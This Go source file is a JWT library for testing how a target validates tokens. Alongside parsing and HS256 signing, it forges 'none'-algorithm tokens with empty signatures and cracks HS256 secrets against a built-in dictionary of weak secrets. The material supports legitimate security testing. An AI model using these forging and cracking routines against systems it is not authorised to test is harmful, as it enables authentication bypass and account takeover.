// Package jwt provides JWT parsing, HS256 signing and verification
// primitives, and a live probe that tests a target's token validation:
// "none" algorithm acceptance, weak HMAC secrets, and missing expiry.
package jwt

import (
	"crypto/hmac"
	"crypto/sha256"
	"encoding/base64"
	"encoding/json"
	"errors"
	"fmt"
	"strings"
)

// Header is a decoded JWT header.
type Header struct {
	Alg string `json:"alg"`
	Typ string `json:"typ,omitempty"`
	Kid string `json:"kid,omitempty"`
}

// Token is a parsed JWT. Claims stay as a raw map so tampering attacks
// can re-encode arbitrary payloads without schema loss.
type Token struct {
	Raw       string
	Header    *Header
	Claims    map[string]any
	Signature string
}

// ErrInvalidFormat is returned when a token does not have three parts.
var ErrInvalidFormat = errors.New("invalid JWT format: expected 3 parts")

// Parse decodes a JWT without verifying its signature.
func Parse(tokenString string) (*Token, error) {
	parts := strings.Split(tokenString, ".")
	if len(parts) != 3 {
		return nil, ErrInvalidFormat
	}

	token := &Token{
		Raw:       tokenString,
		Signature: parts[2],
	}

	headerBytes, err := base64URLDecode(parts[0])
	if err != nil {
		return nil, fmt.Errorf("failed to decode header: %w", err)
	}
	var header Header
	if err := json.Unmarshal(headerBytes, &header); err != nil {
		return nil, fmt.Errorf("failed to parse header: %w", err)
	}
	token.Header = &header

	claimsBytes, err := base64URLDecode(parts[1])
	if err != nil {
		return nil, fmt.Errorf("failed to decode claims: %w", err)
	}
	claims := make(map[string]any)
	if err := json.Unmarshal(claimsBytes, &claims); err != nil {
		return nil, fmt.Errorf("failed to parse claims: %w", err)
	}
	token.Claims = claims

	return token, nil
}

// Sign encodes header and claims and signs them. Algorithm "none" (or
// empty) produces an empty signature; HS256 signs with secret.
func Sign(header *Header, claims map[string]any, secret []byte) (string, error) {
	headerBytes, err := json.Marshal(header)
	if err != nil {
		return "", err
	}
	claimsBytes, err := json.Marshal(claims)
	if err != nil {
		return "", err
	}
	signingInput := base64URLEncode(headerBytes) + "." + base64URLEncode(claimsBytes)

	switch strings.ToLower(strings.TrimSpace(header.Alg)) {
	case "none", "":
		return signingInput + ".", nil
	case "hs256":
		return signingInput + "." + signHS256(signingInput, secret), nil
	default:
		return "", fmt.Errorf("unsupported algorithm: %s", header.Alg)
	}
}

func signHS256(input string, secret []byte) string {
	h := hmac.New(sha256.New, secret)
	h.Write([]byte(input))
	return base64URLEncode(h.Sum(nil))
}

// VerifyHS256 reports whether tokenString carries a valid HS256
// signature under secret.
func VerifyHS256(tokenString, secret string) bool {
	parts := strings.Split(tokenString, ".")
	if len(parts) != 3 {
		return false
	}
	signingInput := parts[0] + "." + parts[1]
	expected := signHS256(signingInput, []byte(secret))
	return hmac.Equal([]byte(parts[2]), []byte(expected))
}

// HasExpiry reports whether the token carries an exp claim.
func (t *Token) HasExpiry() bool {
	_, ok := t.Claims["exp"]
	return ok
}

// NoneVariant re-encodes the token's claims under alg "none" with an
// empty signature, preserving the payload byte-for-byte semantics.
func (t *Token) NoneVariant() (string, error) {
	header := &Header{Alg: "none", Typ: t.Header.Typ}
	return Sign(header, t.Claims, nil)
}

// WeakSecrets is the fixed dictionary tried against HS256 tokens,
// ordered by prevalence. Probing stops at the first match.
func WeakSecrets() []string {
	return []string{
		"secret", "password", "123456", "key", "changeme",
		"jwt_secret", "jwt-secret", "jwtsecret", "secretkey", "secret_key",
		"your-256-bit-secret", "your-secret-key", "supersecret",
		"admin", "qwerty", "letmein", "welcome", "default",
		"test", "dev",
	}
}

// CrackSecret tries the weak-secret dictionary (or wordlist, if given)
// against an HS256 token, stopping at the first match. Returns the
// matching secret ("" if none verified) and the number of entries
// tried.
func CrackSecret(tokenString string, wordlist []string) (string, int) {
	if wordlist == nil {
		wordlist = WeakSecrets()
	}
	for i, secret := range wordlist {
		if VerifyHS256(tokenString, secret) {
			return secret, i + 1
		}
	}
	return "", len(wordlist)
}

func base64URLEncode(data []byte) string {
	return base64.RawURLEncoding.EncodeToString(data)
}

func base64URLDecode(s string) ([]byte, error) {
	// Tokens in the wild appear both padded and unpadded.
	if m := len(s) % 4; m != 0 {
		return base64.RawURLEncoding.DecodeString(s)
	}
	if strings.HasSuffix(s, "=") {
		return base64.URLEncoding.DecodeString(s)
	}
	return base64.RawURLEncoding.DecodeString(s)
}
